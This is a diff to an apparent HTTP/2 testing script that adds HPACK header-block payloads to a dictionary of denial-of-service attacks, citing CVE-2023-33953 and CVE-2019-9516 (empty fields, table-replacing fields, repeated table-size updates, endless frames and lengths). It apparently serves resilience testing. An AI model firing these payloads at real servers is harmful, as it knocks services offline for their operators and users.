@@ -1,6 +1,7 @@
 #!/usr/bin/env python3
 # SPDX-License-Identifier: Apache-2.0
-"""Headers that never end (CVE-2023-33953): frames without a last one, names by number, a string of a gigabyte, a length of endless bytes."""
+"""Headers that never end (CVE-2023-33953): frames without a last one, names by number or empty (CVE-2019-9516), a string of a gigabyte, a length of
+endless bytes, tables that change all the time."""
 
 import sys
 
@@ -29,6 +30,9 @@ ATTACKS = {
     # A byte each on the wire. 3,500 of them are within the 128 KiB of metadata that a frame may have; the others fill their frame.
     "fields by their number": unfinished(INTO_TABLE + literal("x", "y")[1:], FIRST_OF_TABLE * 3500),
     "frames full of numbers": unfinished(INTO_TABLE + literal("x", "y")[1:], FIRST_OF_TABLE * FRAME),
+    "fields without name and value": unfinished(b"", literal("", "") * (FRAME // 3)),
+    "fields that replace the table": unfinished(b"", (INTO_TABLE + literal("x", "y" * 1000)[1:]) * 16),
+    "sizes of the table": unfinished(b"", (integer(0, 5, 0x20) + integer(4096, 5, 0x20)) * (FRAME // 4)),
     "a string of a gigabyte": unfinished(b"\0" + literal("x", "")[1:-1] + integer(1 << 30, 7, 0), b"y" * FRAME),
     "a length that has no end": unfinished(b"\0\x7f" + b"\xff" * 4, b"\x80" * FRAME),
 }
